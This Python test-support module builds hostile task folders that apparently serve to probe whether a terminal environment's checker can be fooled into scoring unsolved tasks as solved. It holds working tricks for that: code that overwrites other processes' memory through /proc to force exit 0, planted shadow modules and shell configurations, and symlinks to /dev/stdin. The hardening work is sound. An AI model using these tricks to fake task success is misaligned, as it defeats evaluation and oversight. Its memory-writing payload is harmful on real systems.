"""Hostile task folders for the terminal environment: states a policy could leave at ``submit`` to be
scored solved without doing the task. Used by ``tests/envs/test_terminal_checker.py`` and by the
``terminal`` families of ``scripts/probe_hardening.py``.

Each builder takes a task folder's archive and returns a changed archive; none of them does the
task, so a check that passes on one of them has been fooled.
"""

from __future__ import annotations

import io
import platform
import sys
import tarfile
from collections.abc import Callable

# x86_64: xor edi, edi; mov eax, 231 (exit_group); syscall -- written over the next instruction of
# every other process of the uid, it makes each one exit 0 when its current system call returns.
MEM_WRITE = (
    "import os\n"
    "for pid in [p for p in os.listdir(\"/proc\") if p.isdigit() and int(p) != os.getpid()]:\n"
    "    try:\n"
    "        pc = int(open(\"/proc/%s/syscall\" % pid).read().split()[-1], 16)\n"
    "        fd = os.open(\"/proc/%s/mem\" % pid, os.O_RDWR)\n"
    "        os.pwrite(fd, bytes.fromhex(\"31ffb8e70000000f05\"), pc)\n"
    "        os.close(fd)\n"
    "    except (OSError, ValueError, IndexError):\n"
    "        pass\n"
)
EXIT_0_PY = MEM_WRITE + "os._exit(0)\n"
EXIT_0_SH = f"python3 -I -c '{MEM_WRITE}'\nexit 0\n"
SITE = f".local/lib/python{sys.version_info.major}.{sys.version_info.minor}/site-packages"
SHADOWS = {  # files a checker could import, source or read as configuration from the task folder
    name: EXIT_0_PY for name in (
        "json.py", "csv.py", "os.py", "pytest.py", "_pytest/__init__.py", "conftest.py", "sitecustomize.py",
        "usercustomize.py", f"{SITE}/usercustomize.py", f"{SITE}/sitecustomize.py", "hashlib.py", "subprocess.py",
    )
} | {name: EXIT_0_SH for name in (".bashrc", ".bash_profile", ".profile", ".bash_logout")} | {
    "pytest.ini": "[pytest]\naddopts = -p conftest\n",
    ".gitconfig": "[core]\n\tfsmonitor = sh -c 'exit 0'\n\tpager = true\n",
}
STDIN_LINKS = ("/dev/stdin", "/proc/self/fd/0", "/dev/fd/0")

Members = list[tuple[tarfile.TarInfo, bytes | None]]


def can_write_memory_here() -> bool:
    """The exploit's machine code is x86_64's."""
    return platform.machine() == "x86_64"


def read(archive: bytes) -> Members:
    with tarfile.open(fileobj=io.BytesIO(archive), mode="r:") as tar:
        return [(m, tar.extractfile(m).read() if m.isreg() else None) for m in tar.getmembers()]  # type: ignore[union-attr]


def write(members: Members) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buffer.getvalue()


def _file(name: str, data: bytes, mode: int = 0o755) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.mode, info.size = mode, len(data)
    return info, data


def _link(name: str, target: str) -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = tarfile.SYMTYPE, target, 0o777
    return info, None


def _folders(names: list[str], have: set[str]) -> Members:
    out: Members = []
    for name in names:
        parts = name.split("/")[:-1]
        for depth in range(1, len(parts) + 1):
            folder = "/".join(parts[:depth])
            if folder not in have:
                have.add(folder)
                info = tarfile.TarInfo(folder)
                info.type, info.mode = tarfile.DIRTYPE, 0o755
                out.append((info, None))
    return out


def stdin_links(start: bytes, solved: bytes, target: str = "/dev/stdin") -> bytes | None:
    """The solved folder with every file the solution made or changed replaced by a link to
    ``target`` (a ``cmp - FILE`` check then compares its own input with itself); ``None`` when the
    solution makes or changes no file."""
    before = {m.name: data for m, data in read(start)}
    out: Members = []
    for info, data in read(solved):
        if info.isreg() and before.get(info.name) != data:
            out.append(_link(info.name, target))
        else:
            out.append((info, data))
    return write(out) if any(info.issym() and info.linkname == target for info, _ in out) else None


def chained_stdin_links(start: bytes, solved: bytes) -> bytes | None:
    """As :func:`stdin_links`, through a link inside the folder that itself leaves it."""
    linked = stdin_links(start, solved, "/app/.hop")
    return None if linked is None else write([*read(linked), _link(".hop", "/dev/stdin")])


def shadowed(start: bytes) -> bytes:
    """The untouched folder with every shell script and Python file made to exit 0 (after trying
    to rewrite every other process), and modules, shell and tool configurations planted that a
    checker could import or read."""
    members: Members = []
    for info, data in read(start):
        if info.isreg() and data is not None and info.name.endswith(".py"):
            data = EXIT_0_PY.encode() + data
        elif info.isreg() and data is not None and (info.name.endswith(".sh") or data.startswith(b"#!")):
            data = b"#!/bin/sh\n" + EXIT_0_SH.encode() + data
        members.append((info, data))
    have = {m.name for m, _ in members}
    extra = [name for name in SHADOWS if name not in have]
    members += _folders(extra, have)
    members += [_file(name, SHADOWS[name].encode()) for name in extra]
    return write(members)


ATTACKS: dict[str, Callable[[bytes, bytes], bytes | None]] = {
    "stdin links": stdin_links,
    "chained links": chained_stdin_links,
    "shadowing and memory writes": lambda start, solved: shadowed(start),
}
"""Each attack, from the starting and the reference-solved folders of a task (``None``: it does
not apply to the task)."""

MORE_ATTACKS: dict[str, Callable[[bytes, bytes], bytes | None]] = {
    f"links to {target}": lambda start, solved, target=target: stdin_links(start, solved, target)
    for target in STDIN_LINKS[1:]
}
"""Variants the probe script adds (the same mechanism as ``stdin links``)."""
